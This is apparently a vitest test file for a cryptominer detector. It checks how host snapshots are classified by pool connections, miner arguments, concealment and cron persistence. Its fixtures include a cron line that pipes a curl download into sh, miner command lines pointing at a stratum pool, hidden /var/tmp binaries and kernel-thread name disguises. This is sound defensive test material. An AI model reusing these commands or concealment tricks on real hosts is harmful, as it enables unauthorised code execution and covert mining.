import { describe, expect, it } from 'vitest';
import {
  GOOD_LINES,
  infectedSnapshot,
  labContext,
  POOL,
  pidsOf,
} from '../../test/shared/infected-snapshot.ts';
import {
  cleanSnapshot,
  crontab,
  elf,
  file,
  hashOf,
  identityOf,
  image,
  process,
  socket,
} from '../../test/shared/snapshots.ts';
import type { Written } from '../../test/shared/written.ts';
import { surveyed } from '../../test/shared/written.ts';
import type { Process, Snapshot } from '../snapshot.ts';
import type { JudgeContext } from './index.ts';
import { judge } from './index.ts';

const verdictOf = (snapshot: Snapshot, context: JudgeContext = labContext) =>
  judge(snapshot, context).verdict;
const withProcesses = (processes: readonly Process[], more: Written<Partial<Snapshot>> = {}): Snapshot => {
  const clean = cleanSnapshot();
  return cleanSnapshot({
    ...more,
    processes: [...clean.processes, ...processes],
    sockets: [...clean.sockets, ...(more.sockets ?? [])],
  });
};
/** An unpackaged program at home in /opt: nothing about it is odd. */
const plainProgram = (more: Written<Partial<Process>> = {}) =>
  process({ pid: 900, exe: '/opt/app/worker', ...more });

describe('the infection of the procedure', () => {
  it('is confirmed, whoever its parent is now', () => {
    expect(verdictOf(infectedSnapshot()).verdict).toBe('confirmed');
    expect(verdictOf(infectedSnapshot({ minerParent: 'init' })).verdict).toBe('confirmed');
  });

  it('is judged alike whatever the order in which things were surveyed', () => {
    const snapshot = infectedSnapshot();
    const turned: Snapshot = {
      ...snapshot,
      processes: snapshot.processes.toReversed(),
      files: snapshot.files.toReversed(),
      cronFiles: snapshot.cronFiles.toReversed(),
    };
    expect(judge(turned, labContext)).toEqual(judge(snapshot, labContext));
  });

  it('names each signal with its class and technique', () => {
    const { classes, signals } = verdictOf(infectedSnapshot());
    expect(classes).toEqual(['pool-connection', 'miner-strings', 'cpu', 'location']);
    expect(signals.every((signal) => /^T\d{4}(?:\.\d{3})?$/.test(signal.attack))).toBe(true);
  });
});

describe('two classes, at least one of them specific to mining', () => {
  it('pool connection and location confirm', () => {
    const snapshot = withProcesses([process({ pid: 900, exe: '/tmp/x' })], {
      sockets: [socket([900], POOL, 3333)],
    });
    expect(verdictOf(snapshot).verdict).toBe('confirmed');
  });

  it('a connection that is still being made counts', () => {
    const sockets = [socket([900], POOL, 3333, { state: 'SYN_SENT' })];
    expect(verdictOf(withProcesses([process({ pid: 900, exe: '/tmp/x' })], { sockets })).verdict).toBe(
      'confirmed',
    );
  });

  it('a pool connection alone is suspicious', () => {
    expect(verdictOf(withProcesses([plainProgram()], { sockets: [socket([900], POOL, 3333)] })).verdict).toBe(
      'suspicious',
    );
  });

  it('another port of the pool’s address, or a connection from it, is none', () => {
    expect(verdictOf(withProcesses([plainProgram()], { sockets: [socket([900], POOL, 443)] })).verdict).toBe(
      'not-a-miner',
    );
    const listening = socket([900], '0.0.0.0', 0, {
      state: 'LISTEN',
      local: { address: '0.0.0.0', port: 80 },
    });
    const inbound = socket([900], POOL, 51_000, { local: { address: '192.0.2.5', port: 80 } });
    const anyPort = {
      ...labContext.indicators,
      pools: [{ host: 'pool.example', addresses: [POOL], ports: [] }],
    };
    const context = { ...labContext, indicators: anyPort };
    const snapshot = withProcesses([plainProgram()], { sockets: [listening, inbound] });
    expect(verdictOf(snapshot, context).verdict).toBe('not-a-miner');
    const outbound = withProcesses([plainProgram()], { sockets: [inbound] });
    expect(verdictOf(outbound, context).verdict).toBe('suspicious');
  });

  it('a closing connection that nobody owns any more is none: it outlives a killed miner', () => {
    const sockets = ['TIME_WAIT', 'FIN_WAIT1'].map((state) => socket([], POOL, 3333, { state }));
    expect(verdictOf(cleanSnapshot({ sockets })).verdict).toBe('not-a-miner');
  });

  it('an open pool connection of no visible process is suspicious', () => {
    expect(verdictOf(cleanSnapshot({ sockets: [socket([], POOL, 3333)] })).verdict).toBe('suspicious');
  });

  it('unrelated oddities of two processes are not added up', () => {
    const snapshot = withProcesses(
      [plainProgram(), process({ pid: 901, exe: '/tmp/build/job', cpuShare: 1 })],
      {
        sockets: [socket([900], POOL, 3333)],
      },
    );
    expect(verdictOf(snapshot).verdict).toBe('suspicious');
  });

  it('classes of a linked group are added up: miner of one class, guard with a known hash', () => {
    const snapshot = withProcesses(
      [
        { ...plainProgram(), ppid: 901 },
        process({ pid: 901, exe: '/opt/app/guard', argv: ['/opt/app/guard'], cgroup: '/user.slice' }),
      ],
      {
        sockets: [socket([900], POOL, 3333)],
        files: [elf('/opt/app/worker'), elf('/opt/app/guard')],
      },
    );
    const hashes = { [hashOf('image /opt/app/guard')]: 'guard' };
    const context = { ...labContext, indicators: { ...labContext.indicators, hashes } };
    expect(verdictOf(snapshot, context).verdict).toBe('confirmed');
  });

  it('a known hash that only lies elsewhere on the host does not confirm a process of one class', () => {
    const hashes = { [hashOf('image /srv/x')]: 'miner' };
    const context = { ...labContext, indicators: { ...labContext.indicators, hashes } };
    const snapshot = withProcesses([plainProgram()], {
      sockets: [socket([900], POOL, 3333)],
      files: [elf('/srv/x')],
    });
    expect(verdictOf(snapshot, context).verdict).toBe('suspicious');
  });

  it('persistence of the same object is not independent', () => {
    const snapshot = withProcesses([plainProgram()], {
      sockets: [socket([900], POOL, 3333)],
      cronFiles: [crontab('/var/spool/cron/crontabs/root', ['@reboot /opt/app/worker'])],
    });
    const verdict = verdictOf(snapshot);
    expect(verdict.verdict).toBe('suspicious');
    expect(verdict.classes).toContain('persistence');
  });

  it('known hashes count by MD5, by SHA-256 and by reputation; anything but malicious does not', () => {
    const { sha256 = '', md5 = '' } = {
      sha256: hashOf('image /tmp/x'),
      md5: hashOf('image /tmp/x').slice(0, 32),
    };
    const snapshot = withProcesses([process({ pid: 900, exe: '/tmp/x' })]);
    const known = (hash: string) => ({
      ...labContext,
      indicators: { ...labContext.indicators, hashes: { [hash]: 'miner' } },
    });
    expect(verdictOf(snapshot, known(md5)).verdict).toBe('confirmed');
    expect(verdictOf(snapshot, known(sha256)).verdict).toBe('confirmed');
    const said = (verdict: 'malicious' | 'suspicious' | 'unknown') => ({
      ...labContext,
      reputation: { [sha256]: { verdict, what: 'said' } },
    });
    expect(verdictOf(snapshot, said('malicious')).verdict).toBe('confirmed');
    expect(verdictOf(snapshot, said('suspicious')).verdict).toBe('not-a-miner');
    expect(verdictOf(snapshot, said('unknown')).verdict).toBe('not-a-miner');
  });

  it('a known miner that lies there, run by nobody, is suspicious', () => {
    const context = {
      ...labContext,
      indicators: { ...labContext.indicators, hashes: { [hashOf('image /srv/x')]: 'miner' } },
    };
    expect(verdictOf(cleanSnapshot({ files: [elf('/srv/x')] }), context).verdict).toBe('suspicious');
  });

  it('miner arguments count; the same words in a search do not', () => {
    const argv = ['-o', 'stratum+tcp://203.0.113.1:3333', '-u', 'x'];
    const miner = process({ pid: 900, exe: '/tmp/x', argv: ['/tmp/x', ...argv] });
    expect(verdictOf(withProcesses([miner])).verdict).toBe('confirmed');
    const grep = process({ pid: 900, exe: '/usr/bin/grep', argv: ['grep', ...argv], cpuShare: 1 });
    expect(verdictOf(withProcesses([grep])).verdict).toBe('not-a-miner');
  });

  it('strings of an image count where its file is gone, too', () => {
    const gone = process({ pid: 900, exe: '/tmp/x', image: { deleted: true, links: 0 } });
    const content = {
      bytesRead: 1,
      truncated: false,
      format: 'elf' as const,
      patterns: ['stratum-url'],
      fetches: [],
      fetchesAndRuns: false,
      paths: [],
    };
    const read = { ...gone, image: gone.image === null ? null : { ...gone.image, content } };
    const sockets = [socket([900], '203.0.113.66', 443)];
    expect(verdictOf(withProcesses([read], { sockets })).verdict).toBe('confirmed');
  });
});

describe('concealment', () => {
  const gone = { deleted: true, links: 0 };
  it('with another sign on the same process is suspicious, alone it is a finding', () => {
    expect(verdictOf(withProcesses([process({ pid: 900, exe: '/opt/x', image: gone })])).verdict).toBe(
      'not-a-miner',
    );
    const busy = process({ pid: 900, exe: '/opt/x', image: gone, cpuShare: 1 });
    expect(verdictOf(withProcesses([busy])).verdict).toBe('suspicious');
  });

  it('takes a kernel thread’s name on a program, a memory image and a covered /proc for concealment', () => {
    for (const odd of [
      process({ pid: 900, exe: '/opt/x', comm: 'kworker/0:1', cpuShare: 1 }),
      process({ pid: 900, exe: '/opt/x', argv: ['[kthreadd]'], cpuShare: 1 }),
      process({ pid: 900, exe: '/memfd:x', image: gone, cpuShare: 1 }),
      process({ pid: 900, exe: '/opt/x', hidden: true, cpuShare: 1 }),
    ]) {
      expect(verdictOf(withProcesses([odd])).verdict).toBe('suspicious');
    }
  });

  it('is not what a package upgrade leaves behind', () => {
    const upgraded = process({ pid: 900, exe: '/usr/sbin/mysqld', image: gone, cpuShare: 2 });
    const { verdict, findings } = verdictOf(withProcesses([upgraded]));
    expect(verdict).toBe('not-a-miner');
    expect(findings.join()).toContain('as after an upgrade');
  });
});

describe('look-alikes end not-a-miner', () => {
  it('a clean host with a busy database', () => {
    expect(verdictOf(cleanSnapshot()).verdict).toBe('not-a-miner');
  });

  it('the bystanders without the infection', () => {
    const { busyJob, otherCurl } = pidsOf();
    const infected = infectedSnapshot();
    const keep = new Set([busyJob, otherCurl]);
    const snapshot = cleanSnapshot({
      processes: infected.processes.filter((p) => keep.has(p.pid) || p.pid < 1000),
      sockets: infected.sockets.filter((s) => s.pids.includes(otherCurl)),
      files: infected.files.filter((f) => /build|orig|bak/.test(f.path)),
      cronFiles: [crontab('/var/spool/cron/crontabs/root', GOOD_LINES)],
    });
    const judgement = judge(snapshot, labContext);
    expect(judgement.verdict.verdict).toBe('not-a-miner');
    expect(judgement.links.processes).toEqual([]);
    expect(judgement.links.cronLines).toEqual([]);
  });

  it('a pool named in a file that nothing runs is a finding', () => {
    const { verdict, findings } = verdictOf(
      cleanSnapshot({ files: [file('/srv/notes.txt', `stratum+tcp://${POOL}:3333`)] }),
    );
    expect(verdict).toBe('not-a-miner');
    expect(findings.join()).toContain('nothing runs it');
  });

  it('a fetch-and-run line alone is a finding', () => {
    const cronFiles = [
      crontab('/var/spool/cron/crontabs/root', ['0 4 * * * curl -fsSL https://get.example/install.sh | sh']),
    ];
    const judgement = judge(cleanSnapshot({ cronFiles }), labContext);
    expect(judgement.verdict.verdict).toBe('not-a-miner');
    expect(judgement.links.cronLines).toEqual([]);
  });

  it('zombies and Davy’s own session give no signals', () => {
    const sockets = [socket([900], POOL, 3333)];
    expect(
      verdictOf(withProcesses([process({ pid: 900, exe: '/tmp/x', state: 'Z' })], { sockets })).verdict,
    ).not.toBe('confirmed');
    const snapshot = withProcesses([
      process({ pid: 900, exe: '/tmp/x', argv: ['/tmp/x', '--donate-level=1'] }),
    ]);
    const own = { ...snapshot, host: { ...snapshot.host, ownPids: [900] } };
    expect(verdictOf(own).verdict).toBe('not-a-miner');
  });
});

describe('doubt', () => {
  it('truncated, unprivileged and contradicted surveys are inconclusive', () => {
    const clean = cleanSnapshot();
    const blind = [{ what: 'processes', how: 'truncated' as const, detail: '2000 of 3000' }];
    const contradictions = [
      { between: ['/proc', 'cgroup.procs'] as const, subject: 'pid 9', detail: 'missing' },
    ];
    expect(verdictOf(cleanSnapshot({ blind })).verdict).toBe('inconclusive');
    expect(verdictOf(cleanSnapshot({ contradictions })).verdict).toBe('inconclusive');
    expect(verdictOf({ ...clean, host: { ...clean.host, privileged: false } }).verdict).toBe('inconclusive');
  });

  it('a cross-check that could not be made is no contradiction', () => {
    expect(
      verdictOf(cleanSnapshot({ blind: [{ what: 'ss', how: 'not-checked', detail: 'no ss' }] })).verdict,
    ).toBe('not-a-miner');
  });

  it('does not lower what was confirmed', () => {
    const blind = [{ what: 'files', how: 'truncated' as const, detail: 'many' }];
    expect(verdictOf(surveyed<Snapshot>({ ...infectedSnapshot(), blind })).verdict).toBe('confirmed');
  });

  it('a person’s ruling makes targets of what is suspicious, and of nothing else', () => {
    const snapshot = withProcesses([plainProgram()], { sockets: [socket([900], POOL, 3333)] });
    const judgement = judge(snapshot, { ...labContext, declaredMiner: true });
    expect(judgement.verdict.verdict).toBe('confirmed');
    expect(judgement.links.processes.map((p) => p.pid)).toEqual([900]);
    const hashes = { [hashOf('image /srv/x')]: 'miner' };
    const known = { ...labContext, declaredMiner: true, indicators: { ...labContext.indicators, hashes } };
    const lying = judge(cleanSnapshot({ files: [elf('/srv/x')] }), known);
    expect(lying.links.files).toMatchObject([{ path: '/srv/x', selected: true }]);
    expect(judge(cleanSnapshot(), { ...labContext, declaredMiner: true }).verdict.verdict).toBe(
      'not-a-miner',
    );
  });
});

describe('the list of authorised miners', () => {
  const argv = ['/opt/xmr/xmrig', '-o', 'pool.example:3333'];
  const miner = process({ pid: 900, exe: '/opt/xmr/xmrig', argv, uid: 33 });
  const snapshot = (more: Written<Partial<Process>> = {}) =>
    withProcesses([surveyed<Process>({ ...miner, ...more })], {
      sockets: [socket([900], POOL, 3333)],
      files: [elf('/opt/xmr/xmrig', 'mining.subscribe')],
    });
  const entry = {
    sha256: image('/opt/xmr/xmrig').sha256 ?? '',
    path: '/opt/xmr/xmrig',
    owner: 'www-data',
    pool: 'pool.example:3333',
    arguments: argv.slice(1),
  };
  const allow = (more: Partial<typeof entry> = {}): JudgeContext => ({
    ...labContext,
    authorised: [{ ...entry, ...more }],
  });

  it('allows exactly what stands there', () => {
    expect(verdictOf(snapshot()).verdict).toBe('confirmed');
    const judgement = judge(snapshot(), allow());
    expect(judgement.verdict.verdict).toBe('authorised');
    expect(judgement.authorised).toEqual([900]);
  });

  it('does not allow another hash, path, owner, pool or argument', () => {
    const others = [
      { sha256: hashOf('other') },
      { path: '/opt/xmr/other' },
      { owner: 'root' },
      { pool: 'other.example:3333' },
      { arguments: [...entry.arguments, '--user=x'] },
    ];
    for (const more of others) expect(verdictOf(snapshot(), allow(more)).verdict).toBe('confirmed');
    const elsewhere = {
      ...snapshot(),
      sockets: [socket([900], POOL, 3333), socket([900], '203.0.113.77', 9999)],
    };
    expect(verdictOf(elsewhere, allow()).verdict).toBe('confirmed');
  });

  it('gives up a thief’s copy whole, and neither the listed program nor another copy of it', () => {
    const copy = image('/opt/xmr/xmrig');
    const thief = process({
      pid: 950,
      exe: '/var/tmp/.x/m',
      image: { ...copy, path: '/var/tmp/.x/m', inode: '77' },
    });
    const at = (path: string, inode: string) =>
      elf(path, 'mining.subscribe', { identity: identityOf(path, 100_000, { device: '2049', inode }) });
    const both = withProcesses([miner, thief], {
      sockets: [socket([900], POOL, 3333), socket([950], POOL, 3333)],
      files: [
        elf('/opt/xmr/xmrig', 'mining.subscribe'),
        at('/var/tmp/.x/m', '77'),
        at('/srv/old/xmrig', '78'),
      ].map((one) => ({ ...one, sha256: copy.sha256 })),
      cronFiles: [crontab('/var/spool/cron/crontabs/root', ['* * * * * /var/tmp/.x/m'])],
    });
    const { links, verdict } = judge(both, allow());
    expect(verdict.verdict).toBe('confirmed');
    expect(links.processes.map(({ pid }) => pid)).toEqual([950]);
    expect(links.files.map(({ path, selected }) => [path, selected])).toEqual([['/var/tmp/.x/m', true]]);
    expect(links.cronLines.map(({ selected }) => selected)).toEqual([true]);
  });

  it('never lets an allowed miner become a target of another one', () => {
    const both = snapshot();
    const infected = infectedSnapshot();
    const together = {
      ...infected,
      processes: [...infected.processes, ...both.processes.filter((p) => p.pid === 900)],
      sockets: [...infected.sockets, socket([900], POOL, 3333)],
      files: [...infected.files, ...both.files],
    };
    const { links, verdict } = judge(together, allow());
    expect(verdict.verdict).toBe('confirmed');
    expect(links.processes.some((p) => p.pid === 900)).toBe(false);
    expect(links.files.some((f) => f.path === '/opt/xmr/xmrig')).toBe(false);
  });
});

describe('what looks like mining and is none', () => {
  it('a trader’s coin option', () => {
    for (const argv of [
      ['bot', '--coin', 'BTC'],
      ['bot', '--coin=ETH'],
      ['bot', '--coin'],
    ]) {
      expect(verdictOf(withProcesses([plainProgram({ argv })])).verdict, argv.join(' ')).toBe('not-a-miner');
    }
    for (const argv of [
      ['x', '--coin', 'monero'],
      ['x', '--coin=XMR'],
      ['x', '--coin', 'wownero'],
    ]) {
      expect(verdictOf(withProcesses([plainProgram({ argv })])).classes, argv.join(' ')).toEqual([
        'miner-arguments',
      ]);
    }
  });

  it('a script that names miners; with an option of theirs it is one’s', () => {
    const run = (text: string) => {
      const guard = process({ pid: 900, exe: '/usr/bin/dash', argv: ['sh', '/opt/guard.sh'] });
      return verdictOf(withProcesses([guard], { files: [file('/opt/guard.sh', text)] })).classes;
    };
    expect(run('#!/bin/sh\npgrep xmrig && alert; pgrep minerd && alert\n')).toEqual([]);
    expect(run('#!/bin/sh\n./xmrig --donate-level=0\n')).toEqual(['miner-strings']);
  });

  it('an image that holds a miner’s name is one still', () => {
    const files = [elf('/opt/app/worker', 'usage: xmrig [OPTIONS]')];
    expect(verdictOf(withProcesses([plainProgram()], { files })).classes).toEqual(['miner-strings']);
  });

  it('programs with names like those of kernel threads', () => {
    const verdict = (name: string) => verdictOf(withProcesses([plainProgram({ comm: name, cpuShare: 1 })]));
    for (const name of ['migration-runner', 'migrations', 'rcu_report.py', 'kworker-pool'])
      expect(verdict(name).verdict, name).toBe('not-a-miner');
    for (const name of ['migration/0', 'rcu_sched', 'kworker/0:1', 'kworkerds', '[kthreadd]'])
      expect(verdict(name).classes, name).toContain('concealment');
  });
});

describe('the sentence that begins every chain of links', () => {
  it('is a sentence, whatever the signals', () => {
    const at = '/tmp/wnTKYg';
    const cron = [crontab('/var/spool/cron/root', [`* * * * * ${at}`])];
    const miner = process({
      pid: 900,
      exe: at,
      comm: 'kworker/0:1',
      hidden: true,
      image: { deleted: true, links: 0 },
    });
    const sockets = [socket([900], POOL, 3333)];
    const files = [elf(at, 'mining.subscribe')];
    const { links } = judge(withProcesses([miner], { sockets, files, cronFiles: cron }), labContext);
    const sentence = links.processes.find((p) => p.pid === 900)?.why[0] ?? '';
    const [begin, told = ''] = sentence.split(' is a confirmed miner: it ');
    expect(begin).toBe(`wnTKYg (pid 900, ${at})`);
    expect(told.split('; ').map((part) => part.split(' ', 1)[0])).toEqual([
      'connects',
      'runs',
      'runs',
      'runs',
      'bears',
      'is',
      'runs',
    ]);
    expect(told).toContain(`runs ${at}, which holds miner strings: stratum-subscribe`);
    const inMemory = process({ pid: 900, exe: '/memfd:x', image: { deleted: true, links: 0 } });
    const kept = judge(withProcesses([inMemory], { sockets }), labContext).links;
    expect(kept.processes.find((p) => p.pid === 900)?.why[0]).toContain(
      '; runs an image that is only in memory',
    );
  });
});

describe('a miner’s configuration that a program holds open', () => {
  const text = '{"pools":[{"url":"198.51.100.7:3333","user":"x","algo":"rx/0"}]}';
  const of = (path: string, more: Partial<Process> = {}, exe = '/opt/x/sysd') =>
    verdictOf(
      withProcesses([process({ pid: 900, exe, cwd: '/', held: [path], ...more })], {
        files: [file(path, text, { identity: identityOf(path, 1, { mode: '0600' }) })],
      }),
    );
  it('counts as its argument would, in its own folder', () => {
    expect(of('/opt/x/a.cfg')).toMatchObject({ verdict: 'suspicious', classes: ['miner-arguments'] });
  });
  it('is nobody’s where a scanner, a package’s program or somebody from elsewhere holds it', () => {
    expect(of('/opt/x/a.cfg', {}, '/opt/x/clamscan').verdict).toBe('not-a-miner');
    expect(of('/opt/x/a.cfg', {}, '/usr/bin/restic').verdict).toBe('not-a-miner');
    expect(of('/opt/y/a.cfg').verdict).toBe('not-a-miner');
    expect(of('/opt/x/a.cfg', { uid: 33 }).verdict).toBe('not-a-miner');
  });
});
